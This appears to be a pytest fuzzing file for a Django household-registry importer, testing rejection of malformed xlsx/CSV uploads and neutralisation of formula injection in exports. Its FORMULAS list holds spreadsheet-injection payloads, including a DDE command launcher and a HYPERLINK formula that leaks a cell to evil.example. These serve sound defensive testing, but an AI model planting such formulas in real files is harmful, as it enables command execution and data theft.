"""C3 of issue #20, the importers: random bytes, broken xlsx zips, huge cells and formula cells given to the registry
import (the upload kit underneath every importer). Each is refused with conflicts naming the problem — never an
exception, never a row written — and a formula typed into a cell (``=cmd|' /C calc'!A0``) comes back in the error
workbook and in the exports neutralised, never as a formula."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from fupin.core.exports import FORMULA_START
from fupin.registry.models import Household, Member
from fupin.registry.services import import_registry
from fupin.registry.tests import importing

pytestmark = pytest.mark.reliability

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "2")) * 4
FUZZ = settings(max_examples=EXAMPLES, deadline=None, derandomize="FUZZ_RANDOM" not in os.environ, database=None,
                suppress_health_check=list(HealthCheck), phases=[Phase.explicit, Phase.generate])
FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            '=HYPERLINK("http://evil.example/?"&A1,"点击")', "\t=1+1", "\r=1+1"]


def valid_workbook(tmp: Path, n: int = 2) -> bytes:
    return importing.write_xlsx(tmp / "valid.xlsx", importing.form(n)).read_bytes()


def refused(tmp: Path, name: str, content: bytes, clerk, *, dry_run: bool = False) -> None:
    """Refused with conflicts naming the problem, nothing written (``dry_run``: a damaged workbook may still be
    readable — then it is only checked)."""
    path = tmp / name
    path.write_bytes(content)
    before = (Household.objects.count(), Member.objects.count())
    result = import_registry([path], actor=clerk, report_path=tmp / "errors.xlsx", dry_run=dry_run)
    if not dry_run:
        assert not result.ok and result.errors, "garbage was accepted"
    assert all(str(e) for e in result.errors)
    assert (Household.objects.count(), Member.objects.count()) == before


@pytest.mark.django_db
def test_random_bytes_broken_zips_and_huge_cells_are_refused_cleanly(users, tmp_path):
    clerk = users["clerk"]
    good = valid_workbook(tmp_path)

    @FUZZ
    @given(data=st.binary(max_size=4096), suffix=st.sampled_from([".xlsx", ".csv"]))
    def random_bytes(data, suffix):
        refused(tmp_path, "random" + suffix, data, clerk)

    @FUZZ
    @given(cut=st.integers(min_value=1, max_value=len(good) - 1), flips=st.lists(
        st.tuples(st.integers(min_value=0, max_value=len(good) - 1), st.integers(min_value=1, max_value=255)),
        max_size=8))
    def broken_zip(cut, flips):
        data = bytearray(good[:cut] if not flips else good)
        for at, xor in flips:
            if at < len(data):
                data[at] ^= xor
        refused(tmp_path, "broken.xlsx", bytes(data), clerk, dry_run=True)

    random_bytes()
    broken_zip()
    # a zip bomb's cousin: a workbook whose sheet XML is not XML
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(buf, "w") as dst:
        for item in src.namelist():
            dst.writestr(item, b"<<not xml" if item.endswith("sheet1.xml") else src.read(item))
    refused(tmp_path, "notxml.xlsx", buf.getvalue(), clerk)
    # huge cells: a 200,000-character name and a 5,000-digit number
    form = importing.form(1)
    form["家庭成员"][0]["姓名"] = "张" * 200_000
    form["收入"][0]["其他工资性收入"] = "9" * 5000
    path = importing.write_xlsx(tmp_path / "huge.xlsx", form)
    refused(tmp_path, "huge.xlsx", path.read_bytes(), clerk)


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_never_come_back_as_formulas(users, tmp_path, formula):
    clerk = users["clerk"]
    form = importing.form(1)
    form["家庭成员"][0]["姓名"] = formula  # refused: a name must be a name; the error workbook quotes it
    form["家庭成员"][1]["务工所在地"] = formula
    path = importing.write_xlsx(tmp_path / "formula.xlsx", form)
    result = import_registry([path], actor=clerk, report_path=tmp_path / "errors.xlsx")
    assert not result.ok
    wb = load_workbook(tmp_path / "errors.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula in the error workbook: {ws.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip("\t\r").startswith(FORMULA_START) or cell.value[0] == "'", \
                        f"{ws.title}!{cell.coordinate} = {cell.value!r}"


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS[:3])
def test_a_stored_formula_is_neutralised_in_the_csv_and_xlsx_exports(users, households, formula):
    """A value that passed validation (an address-like free text) and starts with = + - @ is exported with a quote."""
    from django.test import Client

    h = households["533301205201"]
    Member.objects.filter(household=h).update(name=formula[:50])
    client = Client()
    client.force_login(users["county"])
    response = client.get("/households/", {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not any(c.startswith(FORMULA_START) for c in cells)
    response = client.get("/households/", {"format": "xlsx"})
    ws = load_workbook(io.BytesIO(response.content)).active
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
